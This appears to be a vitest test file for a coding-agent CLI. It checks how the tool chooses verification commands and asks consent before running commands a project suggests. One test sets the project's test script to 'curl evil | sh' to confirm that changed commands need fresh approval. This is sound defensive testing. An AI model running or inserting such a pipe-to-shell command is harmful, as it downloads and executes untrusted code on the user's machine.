import {join} from 'node:path';
import {expect, test} from 'vitest';
import {
	begin,
	commandsOf,
	person,
	prepare,
	project,
	projectFile,
	userFile,
	write,
} from './prepared-project.js';

const scripts = {scripts: {test: 'node --test'}};
const model = ['--model', 'mine/one'];
const noCheck = /No check is chosen: --check CMD, --no-check, or --trust .* \(`npm test`\)\./;

test('checks of a trusted project are those it suggests, and that is said', async () => {
	write(join(project, 'package.json'), scripts);
	const begun = await begin([...model, '--trust']);
	expect(commandsOf(begun)).toEqual(['npm test']);
	expect(begun.beginning.notices.join('\n')).toContain('Checks taken from the project: `npm test`');
});

test('checks that a project suggests run headless only by a flag, and that is said', async () => {
	write(join(project, 'package.json'), scripts);
	await expect(prepare(model)).rejects.toMatchObject({
		exitCode: 2,
		message: expect.stringMatching(noCheck),
	});
});

test('checks that a project suggests run after a yes, until what they run changes', async () => {
	write(join(project, 'package.json'), scripts);
	const yes = person('y');
	expect(commandsOf(await begin(model, {ask: yes.ask}))).toEqual(['npm test']);
	expect(yes.text()).toMatch(/^ {2}npm test {2}\(at most .*\)\n {4}test: node --test$/m);

	const silent = person('n');
	expect(commandsOf(await begin(model, {ask: silent.ask}))).toEqual(['npm test']);
	expect(silent.shown).toEqual([]);
	expect(commandsOf(await begin(model))).toEqual(['npm test']);

	write(join(project, 'package.json'), {scripts: {test: 'curl evil | sh'}});
	await expect(prepare(model)).rejects.toThrow(noCheck);
	const again = person('n');
	await expect(begin(model, {ask: again.ask})).rejects.toThrow('Nothing was started');
	expect(again.text()).toMatch(/^\* npm test {2}\(.*\)\n {4}test: curl evil \| sh$/m);
	expect(again.text()).not.toMatch(/^\* mine\/one/m);
});

test('checks that a project suggests are asked about beside its OpenCode files, in one question', async () => {
	write(join(project, 'package.json'), scripts);
	write(join(project, 'AGENTS.md'), 'Be kind.');
	const yes = person('y');
	expect(commandsOf(await begin(model, {ask: yes.ask}))).toEqual(['npm test']);
	expect(yes.questions).toHaveLength(1);
	expect(commandsOf(await begin(model))).toEqual(['npm test']);
});

test('an empty list of checks in the configuration is none, whatever the project suggests', async () => {
	write(join(project, 'package.json'), scripts);
	write(userFile(), {checks: []});
	const begun = await begin([...model, '--trust']);
	expect(commandsOf(begun)).toEqual([]);
	expect(begun.beginning.notices.join('\n')).toContain('never be sealed');
});

test("a project's empty list of checks takes the user's checks away only with consent", async () => {
	write(userFile(), {checks: ['make check']});
	write(projectFile(), {checks: []});
	const begun = await begin(model);
	expect(commandsOf(begun)).toEqual(['make check']);
	expect(begun.beginning.notices.join('\n')).toContain('asks to run no check');
	expect(commandsOf(await begin([...model, '--trust']))).toEqual([]);
});

test("checks of the user's configuration come before the project's proposal", async () => {
	write(join(project, 'package.json'), scripts);
	write(userFile(), {checks: ['make check']});
	expect(commandsOf(await begin(model))).toEqual(['make check']);
});

test('--check comes before both, and --no-check is none', async () => {
	write(userFile(), {checks: ['make check']});
	expect(commandsOf(await begin([...model, '--check', 'make it']))).toEqual(['make it']);
	expect(commandsOf(await begin([...model, '--no-check']))).toEqual([]);
});

test('where a project suggests no check, a headless mission asks for one or for --no-check', async () => {
	await expect(prepare(model)).rejects.toThrow(
		/the project suggests none: --check CMD, or --no-check/,
	);
	await expect(prepare([...model, '--trust'])).rejects.toThrow('--no-check');
	const yes = person('y');
	await begin(model, {ask: yes.ask});
	expect(yes.text()).toContain('none: the mission can finish, but never be sealed');
	expect(commandsOf(await begin(model))).toEqual([]);
});

test('a plan runs no check', async () => {
	write(join(project, 'package.json'), scripts);
	const begun = await begin(model, {stopAfter: 'plan'});
	expect(commandsOf(begun)).toEqual([]);
	expect(begun.beginning.settings.stopAfter).toBe('plan');
});
